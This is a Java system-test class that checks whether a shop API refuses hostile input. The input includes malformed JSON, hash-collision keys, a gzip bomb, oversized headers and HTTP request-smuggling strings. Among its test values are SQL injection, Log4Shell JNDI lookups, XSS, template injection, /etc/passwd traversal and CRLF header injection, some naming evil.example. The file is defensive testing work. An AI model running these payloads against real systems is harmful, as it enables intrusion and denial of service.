package org.chasqui.systemtests.journeys;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.chasqui.systemtests.journeys.ProblemAssertions.assertProblem;
import static org.chasqui.systemtests.journeys.ProblemAssertions.assertRevealsNoInternals;
import static org.chasqui.systemtests.shop.Eventually.eventually;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.chasqui.systemtests.Journey;
import org.chasqui.systemtests.Ledger;
import org.chasqui.systemtests.shop.Answer;
import org.chasqui.systemtests.shop.Shop;
import org.chasqui.systemtests.shop.UniqueNames;
import org.chasqui.testing.RawHttp;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Checks that input that no honest client sends is refused in the common format, leaves nothing in any database, and does not affect the
 * next client.
 */
@Journey
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputIT {

    private final Ledger ledger;
    private final Shop shop;

    HostileInputIT(Ledger ledger) {
        this.ledger = ledger;
        this.shop = ledger.shop();
    }

    @AfterAll
    void onlyAcceptedRequestsHadAnEffect() {
        ledger.assertThatNothingElseHappened();
    }

    @AfterEach
    void theServicesStillServe() {
        var user = shop.createUser("honest-" + UniqueNames.unique());
        assertThat(shop.changeUser(user.id(), Map.of("lastName", "Client")).version())
                .isEqualTo(2);
    }

    static Stream<Arguments> brokenBodies() {
        return Stream.of(
                argumentSet("nothing", body("")),
                argumentSet("white space", body("  \n ")),
                argumentSet("an open brace", body("{")),
                argumentSet("half of an object", body("{\"username\": \"an")),
                argumentSet("an object and a word", body("{\"username\": \"UNIQUE\"} then")),
                argumentSet("two objects", body("{\"username\": \"UNIQUE\"}{\"username\": \"UNIQUE\"}")),
                argumentSet("an array", body("[{\"username\": \"UNIQUE\"}]")),
                argumentSet("a string", body("\"username\"")),
                argumentSet("a number", body("17")),
                argumentSet("null", body("null")),
                argumentSet("single quotes", body("{'username': 'UNIQUE'}")),
                argumentSet("a comment", body("{\"username\": \"UNIQUE\" /* me */}")),
                argumentSet("a trailing comma", body("{\"username\": \"UNIQUE\",}")),
                argumentSet("NaN", body("{\"username\": NaN}")),
                argumentSet("the same field twice", body("{\"username\": \"UNIQUE\", \"username\": \"UNIQUE\"}")),
                argumentSet("an unknown field", body("{\"username\": \"UNIQUE\", \"admin\": true}")),
                argumentSet("an id from the client", body("{\"username\": \"UNIQUE\", \"id\": 1, \"version\": 99}")),
                argumentSet("a name in another case", body("{\"Username\": \"UNIQUE\"}")),
                argumentSet("a prototype", body("{\"__proto__\": {\"username\": \"UNIQUE\"}}")),
                argumentSet("a raw control character", body("{\"username\": \"a\u0001b\"}")),
                argumentSet("10,000 arrays", body("[".repeat(10_000))),
                argumentSet("10,000 objects", body("{\"username\":".repeat(5_000))),
                argumentSet("a number of 60,000 digits", body("{\"username\": " + "9".repeat(60_000) + "}")),
                argumentSet("a huge exponent", body("{\"username\": 1e2000000000}")),
                argumentSet("an array of 30,000 numbers", body("{\"username\": [" + "1,".repeat(29_999) + "1]}")),
                argumentSet("5,000 names", body(names(IntStream.range(0, 5_000).mapToObj(i -> "n" + i)))),
                argumentSet("names with one hash", body(names(namesWithOneHash()))),
                argumentSet("5,000 escapes", body("{\"username\": \"" + "\\u0000".repeat(5_000) + "\"}")),
                argumentSet("a name of 60,000 characters", body("{\"" + "k".repeat(60_000) + "\": 1}")),
                argumentSet("UTF-16", "{\"username\": \"UNIQUE\"}".getBytes(UTF_16)),
                argumentSet("Latin-1 where UTF-8 is promised", "{\"username\": \"\u00e9UNIQUE\"}".getBytes(ISO_8859_1)),
                argumentSet("an overlong encoding", bytes('{', '"', 0xC0, 0x80, '"', ':', '1', '}')),
                argumentSet(
                        "half of a surrogate pair in bytes",
                        bytes(
                                '{', '"', 'u', 's', 'e', 'r', 'n', 'a', 'm', 'e', '"', ':', '"', 0xED, 0xA0, 0x80, '"',
                                '}')),
                argumentSet("bytes", bytes(0xFF, 0xFE, 0x00, 0x9F, 0x92, 0x96)));
    }

    @ParameterizedTest
    @MethodSource("brokenBodies")
    void aBrokenBodyIsRefusedByEveryCommand(byte[] body) {
        for (var path : List.of("/api-commands/users", "/api-commands/products", "/api-commands/orders")) {
            var answer =
                    shop.send(json(path).POST(BodyPublishers.ofByteArray(body)).build());

            assertThat(answer.status()).as(answer.toString()).isEqualTo(400);
            assertProblem(answer);
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', textBlock = """
        {"username": "a", "admin": true}      | admin
        {"username": "a", "username": "b"}    | username
        {"username": 7}                       | username
        {"username": "a\\ud800"}              | username
        """)
    void theRefusalNamesAnUnknownRepeatedOrMistypedField(String body, String field) {
        var answer = shop.send(
                json("/api-commands/users").POST(BodyPublishers.ofString(body)).build());

        assertThat(answer.status()).as(answer.toString()).isEqualTo(400);
        assertThat(answer.fieldsAtFault()).containsExactly(field);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/plain",
                "text/html",
                "application/xml",
                "application/x-www-form-urlencoded",
                "application/octet-stream",
                "multipart/form-data; boundary=x",
                "application/yaml",
                "*/*",
                "json",
                ""
            })
    void aBodyOfAnotherMediaTypeIsRefused(String type) {
        var request = shop.request("/api-commands/users").POST(BodyPublishers.ofString("{\"username\": \"x\"}"));
        if (!type.isEmpty()) {
            request.header("Content-Type", type);
        }

        var answer = shop.send(request.build());

        assertThat(answer.status()).as(answer.toString()).isEqualTo(415);
        assertProblem(answer);
    }

    @Test
    void aCompressedBodyIsNotUnpacked() throws IOException {
        var packed = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(packed)) {
            gzip.write(
                    "{\"username\": \"%s\"}".formatted("x".repeat(10_000_000)).getBytes(UTF_8));
        }

        var answer = shop.send(json("/api-commands/users")
                .header("Content-Encoding", "gzip")
                .POST(BodyPublishers.ofByteArray(packed.toByteArray()))
                .build());

        assertThat(answer.status()).as(answer.toString()).isIn(400, 415);
        assertProblem(answer);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "abc",
                "1.5",
                "1e3",
                "0x1",
                "%31%00",
                "%00",
                "-",
                "null",
                "NaN",
                "1%20OR%201=1",
                "1;DROP%20TABLE%20users",
                "1'--",
                "99999999999999999999",
                "9223372036854775808",
                "%F0%9F%92%A9",
                "..%5c..%5c",
                "%2e%2e",
                "1%0d%0aX-Evil:%20yes",
                "$%7Bjndi:ldap:%2f%2fx%7D",
                "%7B%7B7*7%7D%7D",
                "%3Cscript%3E",
                "1%2F2"
            })
    void anInvalidIdIsRefused(String id) {
        for (var list : List.of("users", "products", "orders")) {
            var answer = shop.get("/api-queries/%s/%s".formatted(list, id));

            assertThat(answer.status()).as(answer.toString()).isIn(400, 404);
            assertProblem(answer);
            assertThat(answer.headers().map()).doesNotContainKey("x-evil");
        }
        var put = shop.command("PUT", "/api-commands/users/" + id, Map.of("lastName", "Nobody"));
        assertThat(put.status()).as(put.toString()).isIn(400, 404);
        assertProblem(put);
    }

    @ParameterizedTest
    @ValueSource(strings = {"0", "-1", "-9223372036854775808", "+1"})
    void anImpossibleIdIsNotFound(String id) {
        var answer = shop.get("/api-queries/orders/" + id);

        assertThat(answer.status()).as(answer.toString()).isIn(400, 404);
        assertProblem(answer);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; DROP TABLE users; --",
                "'); DELETE FROM users;--",
                "${jndi:ldap://evil/x}",
                "<script>alert(1)</script>",
                "{{7*7}}",
                "%00%0d%0a",
                "\\u0041\\\\n",
                "../../etc/passwd",
                "Zoë ñ e\u0301",
                "ﷺ مرحبا",
                "שלום \u202Eabc",
                "👩‍👩‍👧‍👦 𝔘𝔫𝔦",
                "木村 拓哉",
                "a\u200Db\uFEFFc",
            })
    void textIsKeptExactlyAsItWasSent(String text) {
        var name = text + " " + UniqueNames.unique();
        var user = shop.createUser(Map.of("username", name, "firstName", text, "lastName", text));
        var product = shop.createProduct(Map.of("name", name, "description", text, "value", 1, "stock", 1));

        assertThat(user.username()).isEqualTo(name);
        eventually(() -> assertThat(shop.user(user.id())).contains(user));
        eventually(() -> assertThat(shop.product(product.id())).contains(product));
        var plain = "\"" + text.replace("\\", "\\\\") + "\""; // JSON requires no other escapes
        assertThat(shop.get("/api-queries/users/" + user.id()).body()).contains(plain);
        assertThat(shop.get("/api-queries/products/" + product.id()).body()).contains(plain);
        var order = shop.decided(shop.placeOrder(user, product, 1).id());
        eventually(() -> {
            var view = shop.order(order.id()).orElseThrow();
            assertThat(view.username()).isEqualTo(name);
            assertThat(view.productName()).isEqualTo(name);
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "00-00000000000000000000000000000000-00f067aa0ba902b7-01",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01",
                "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
                "00-4BF92F3577B34DA6A3CE929D0E0E4736-00F067AA0BA902B7-01",
                "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-extra",
                "'; DROP TABLE orders; --",
            })
    void aForgedTraceIsIgnored(String traceparent) {
        var answer = shop.send(shop.request("/api-queries/users/9007199254740991")
                .header("traceparent", traceparent)
                .build());

        assertThat(answer.status()).isEqualTo(404);
        assertThat(answer.asJson().path("traceId").asString(""))
                .isEqualTo(answer.header("X-Request-Id").orElse("none"));
    }

    @Test
    void forwardingHeadersChangeNothing() {
        var answer = shop.send(json("/api-commands/users")
                .header("X-Forwarded-Host", "evil.example")
                .header("X-Forwarded-Proto", "https")
                .header("X-Forwarded-Prefix", "/evil")
                .header("Forwarded", "host=evil.example;proto=https")
                .header("X-Original-URL", "/actuator")
                .header("X-HTTP-Method-Override", "DELETE")
                .POST(BodyPublishers.ofString("{\"username\": \"%s\"}".formatted(UniqueNames.unique())))
                .build());

        assertThat(answer.status()).isEqualTo(201);
        assertThat(answer.header("Location").orElse("")).startsWith("/api-queries/users/");
    }

    @Test
    void aRequestIdOfTheClientIsReplaced() {
        var answer = shop.send(shop.request("/api-queries/users?limit=1")
                .header("X-Request-Id", "forged")
                .build());

        assertThat(answer.headers().allValues("X-Request-Id")).hasSize(1).allMatch(id -> id.matches("[0-9a-f]{32}"));
    }

    @Test
    void headersOfManyKibibytesAreRefused() {
        var one = shop.send(shop.request("/api-queries/users")
                .header("Idempotency-Key", "k".repeat(1_000_000))
                .build());
        refusedByGateway(one);

        var many = shop.request("/api-queries/users");
        IntStream.range(0, 200).forEach(i -> many.header("X-Filler-" + i, "x".repeat(500)));
        refusedByGateway(shop.send(many.build()));
    }

    static Stream<Arguments> brokenRequests() {
        return Stream.of(
                argumentSet("no HTTP", "hello\r\n\r\n"),
                argumentSet("a TLS greeting", "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\r\n\r\n"),
                argumentSet("no host", "GET /api-queries/users HTTP/1.1\r\n\r\n"),
                argumentSet("two hosts", "GET /api-queries/users HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"),
                argumentSet("an impossible host", "GET /api-queries/users HTTP/1.1\r\nHost: a b/c\r\n\r\n"),
                argumentSet("HTTP of the future", "GET /api-queries/users HTTP/3.7\r\nHost: a\r\n\r\n"),
                argumentSet("TRACE", "TRACE /api-queries/users HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"),
                argumentSet("CONNECT", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"),
                argumentSet("a method in small letters", "get /api-queries/users HTTP/1.1\r\nHost: a\r\n\r\n"),
                argumentSet(
                        "length and chunks",
                        "POST /api-commands/users HTTP/1.1\r\n"
                                + "Host: a\r\n"
                                + "Content-Type: application/json\r\n"
                                + "Content-Length: 4\r\n"
                                + "Transfer-Encoding: chunked\r\n\r\n"
                                + "0\r\n\r\n"
                                + "GET /actuator HTTP/1.1\r\n\r\n"),
                argumentSet(
                        "two lengths",
                        "POST /api-commands/users HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                                + "Content-Length: 2\r\nContent-Length: 40\r\n\r\n{}"),
                argumentSet(
                        "a negative length",
                        "POST /api-commands/users HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n"),
                argumentSet(
                        "chunks of no size",
                        "POST /api-commands/users HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                                + "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n"),
                argumentSet(
                        "a path that climbs out",
                        "GET /../../etc/passwd HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"),
                argumentSet(
                        "a zero byte in the path",
                        "GET /api-queries/users/%00 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"));
    }

    @ParameterizedTest
    @MethodSource
    void brokenRequests(String bytes) throws IOException {
        var answer = RawHttp.exchange(shop.gateway(), bytes.getBytes(ISO_8859_1));

        assertThat(answer)
                .matches("(?s)HTTP/1\\.1 (4\\d\\d|505) .*")
                .doesNotContainIgnoringCase("text/html", "exception", "root:");
    }

    private static void refusedByGateway(Answer answer) {
        assertThat(answer.status()).as(answer.request()).isIn(400, 414, 431);
        assertThat(answer.mediaType()).isEqualTo("application/problem+json");
        assertRevealsNoInternals(answer);
    }

    private HttpRequest.Builder json(String path) {
        return shop.request(path).header("Content-Type", "application/json");
    }

    private static String names(Stream<String> names) {
        return names.map("\"%s\":1"::formatted).collect(Collectors.joining(",", "{", "}"));
    }

    /** Strings of "Aa" and "BB", whose hashes in Java are all the same. */
    private static Stream<String> namesWithOneHash() {
        return IntStream.range(0, 2_048)
                .mapToObj(number -> IntStream.range(0, 11)
                        .mapToObj(bit -> (number >> bit & 1) == 0 ? "Aa" : "BB")
                        .collect(Collectors.joining()));
    }

    private static byte[] body(String text) {
        return text.replace("UNIQUE", UniqueNames.unique()).getBytes(UTF_8);
    }

    private static byte[] bytes(int... values) {
        var bytes = new byte[values.length];
        IntStream.range(0, values.length).forEach(i -> bytes[i] = (byte) values[i]);
        return bytes;
    }
}
